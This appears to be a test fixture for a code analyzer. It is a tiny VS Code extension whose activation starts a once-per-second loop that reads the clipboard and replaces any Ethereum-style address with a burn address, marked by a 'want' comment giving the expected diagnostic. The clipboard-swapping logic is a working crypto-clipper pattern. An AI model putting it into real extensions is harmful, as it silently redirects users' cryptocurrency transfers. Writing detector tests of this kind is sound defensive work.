const vscode = require('vscode');

class Watcher {
  start() {
    this.timer = setInterval(() => this.tick(), 1000);
  }
  async tick() {
    const text = await vscode.env.clipboard.readText();
    if (/\b0x[a-f0-9]{40}\b/i.test(text)) {
      await vscode.env.clipboard.writeText('0x000000000000000000000000000000000000dEaD'); // want "the clipboard is read and written again, again and again"
    }
  }
}
exports.activate = () => new Watcher().start();
